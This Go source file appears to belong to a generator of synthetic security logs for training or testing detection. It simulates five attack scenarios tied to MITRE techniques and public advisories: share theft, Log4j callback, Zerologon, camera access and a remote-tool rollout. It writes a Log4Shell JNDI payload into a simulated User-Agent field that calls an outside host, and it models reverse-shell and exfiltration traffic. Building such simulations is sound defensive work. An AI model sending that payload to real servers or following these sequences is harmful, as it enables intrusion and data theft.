package gen

// spreads begin at one machine and go to what it can reach.
func spreads() []kind {
	return []kind{
		{"dmz-shares", 1, (*attack).dmzShares},
		{"jndi-callback", 1, (*attack).jndiCallback},
		{"zerologon", 1, (*attack).zerologon},
		{"camera-watch", 1, (*attack).cameraWatch},
		{"agent-rollout", 1, (*attack).agentRollout},
	}
}

// dmzShares (T1021.002, T1039, T1560.001, T1041): from the portal's server, which was taken earlier, and with a stolen account the file server's shares are
// read at night; what was packed is put among the portal's pictures and drawn from there, like any page, by a router in somebody's home in
// this country (AA24-190A, of APT40).
func (a *attack) dmzShares() {
	c, r, web, uk := a.c, a.r, a.c.servers["web01"], countryNamed("United Kingdom")
	a.step("shares")
	at := a.between(20*hour, 26*hour)
	for _, role := range []string{"dc01", "print01", "revben01"} {
		a.within(at, web.ip, nil, c.servers[role].ip, 445, "SMB", 4, 4_000, 6_000)
		at += r.span(30*second, 0.5)
	}
	for range r.between(10, 25) {
		a.within(at, web.ip, nil, c.servers["fs01"].ip, 445, "SMB", 90, 300_000, 6e7)
		at += r.span(4*minute, 0.5)
	}
	a.step("draw")
	at += r.span(20*minute, 0.4)
	q := request{client: uk.addr(r), method: "GET", status: 200, agent: pick(r, browsers[:4]), event: "request"}
	begin, total, name := at, uint64(0), r.letters(5)
	for i := range r.between(8, 14) {
		q.path = "/static/img/" + name + number(uint64(i+1)) + ".png"
		q.bytes, q.ms = uint64(r.skewed(4.8e7, 0.02)), uint64(r.skewed(20_000, 0.3))
		a.q.put(at, portal(a.q.buf(), r, at, web.host, &q))
		total += q.bytes
		at += r.span(70*second, 0.4)
	}
	f := flow{
		src: q.client, sport: r.ephemeral(), dst: web.ip, dport: 443, proto: 6, policy: polPortal, action: "close", service: "HTTPS", from: uk.name, to: "Reserved",
		seconds: uint64((at-begin)/second) + 1, sent: total / 300, rcvd: total,
	}
	a.q.put(at, c.fgt.traffic(a.q.buf(), r, at, &f))
}

// jndiCallback (T1190, T1105, T1059.004): a client that calls itself by a line of Log4j's is asked for by the portal's own server: it looks up what the
// line says at a host outside, draws a class from there and opens a shell to it (AA24-207A, of Andariel; CVE-2021-44228).
func (a *attack) jndiCallback() {
	c, r, web := a.c, a.r, a.c.servers["web01"]
	dst, where := a.lair()
	q := request{client: where.addr(r), method: "GET", event: "request", agent: "${jndi:ldap://" + dst.String() + ":1389/" + r.letters(6) + "}"}
	a.step("ask")
	at := a.between(0, 20*hour)
	for range r.between(4, 10) {
		q.path, q.status, q.bytes, q.ms = pick(r, []string{"/", "/applications/search", "/login", "/weekly-list", "/admin/"}), 200, uint64(r.skewed(14_000, 0.6)), uint64(r.skewed(70, 0.5))
		a.q.put(at, portal(a.q.buf(), r, at, web.host, &q))
		if r.chance(0.2) {
			f := flow{
				src: q.client, sport: r.ephemeral(), dst: web.ip, dport: 443, proto: 6, policy: polPortal, action: "dropped", service: "HTTPS", from: where.name, to: "Reserved",
			}
			a.q.put(at, c.fgt.ips(a.q.buf(), r, at, &f, &signatures[2], "planning."+c.domain, q.path))
		}
		at += r.span(15*second, 0.6)
	}
	a.step("call back")
	a.call(at, web.ip, nil, dst, where, 1389, "tcp/1389", 1, 420, 510)
	a.call(at+second, web.ip, nil, dst, where, 8180, "tcp/8180", 1, 380, 3_900)
	a.step("shell")
	at += r.span(10*second, 0.4)
	port := pick(r, []uint16{443, 4444, 8081})
	for range r.between(2, 4) {
		length := r.span(20*minute, 0.5)
		a.beyond(at, web.ip, nil, dst, where, "", port, float64(length/second), 200_000, 60_000)
		at += length + r.span(30*minute, 0.6)
	}
}

// zerologon (T1210, T1068, T1003.006): a machine without an account tries the domain controller's Netlogon with a key of zeros, each try a connection of
// its own, until one of 256 is taken, which is a matter of seconds; then it draws all accounts (AA24-242A, of RansomHub; CVE-2020-1472).
func (a *attack) zerologon() {
	r, u, dc := a.r, a.victim(), a.c.servers["dc01"].ip
	port := uint16(r.between(49_664, 49_720))
	a.step("try")
	at := a.between(8*hour, 22*hour)
	for range min(1+int(r.ExpFloat64()*256), 1_100) {
		a.within(at, u.ip, u, dc, 135, "DCE-RPC", 0, 620, 560)
		a.within(at+second/200, u.ip, u, dc, port, "DCE-RPC", 0, 1_150, 820)
		at += r.span(second/20, 0.3)
	}
	a.step("dump")
	at += r.span(3*minute, 0.4)
	a.within(at, u.ip, u, dc, 135, "DCE-RPC", 1, 900, 1_200)
	a.within(at+second, u.ip, u, dc, uint16(r.between(49_664, 49_720)), "DCE-RPC", 30, 150_000, 2.4e7)
}

// cameraWatch (T1078.001, T1125, T1041): from a workstation that was taken somebody tries the recorder's usual passwords, looks through the cameras and
// sends pictures out (AA24-249A, of Unit 29155).
func (a *attack) cameraWatch() {
	r, u, nvr := a.r, a.victim(), a.c.servers["nvr01"].ip
	dst, where := a.lair()
	name := a.name()
	a.step("try")
	at := a.between(8*hour, 18*hour)
	for range r.between(10, 30) {
		a.within(at, u.ip, u, nvr, 554, "RTSP", 1, 900, 700)
		at += r.span(3*second, 0.5)
	}
	a.step("watch")
	for range r.between(8, 16) {
		length := float64(r.span(12*minute, 0.4) / second)
		a.within(at, u.ip, u, nvr, 554, "RTSP", length, length*900, length*180_000)
		at += r.span(9*minute, 0.4)
		a.beyond(at, u.ip, u, dst, where, name, 443, 25, 2e7, 30_000)
	}
}

// agentRollout (T1072, T1219): by what installs the council's programs a tool for remote help comes onto some dozen workstations within half an hour. From
// then on until the evening each asks the tool's owner now and then whether there is something to do (AA25-071A, of Medusa).
func (a *attack) agentRollout() {
	c, r, from := a.c, a.r, a.c.servers["print01"]
	where := countryNamed(pick(r, []string{"United States", "Netherlands", "Germany"}))
	name := "agent-api." + pick(r, webWords) + "rmm.example"
	edge := []addr{where.addr(r), where.addr(r)}
	a.step("deploy")
	at := a.between(7*hour, 15*hour)
	for _, i := range r.Perm(len(c.users))[:min(len(c.users)/3, 45)] {
		u := &c.users[i]
		a.within(at, from.ip, nil, u.ip, 445, "SMB", 15, 1.4e7, 60_000)
		when := at + r.span(40*second, 0.4)
		a.step("ask")
		a.beyond(when, u.ip, u, pick(r, edge), where, name, 443, 5, 12_000, 2e6)
		for end := a.day + 18*hour; when < end; when += r.span(35*minute, 0.2) {
			a.beyond(when, u.ip, u, pick(r, edge), where, name, 443, 3, 2_200, 1_800)
		}
		a.step("deploy")
		at += r.span(30*second, 0.6)
	}
}
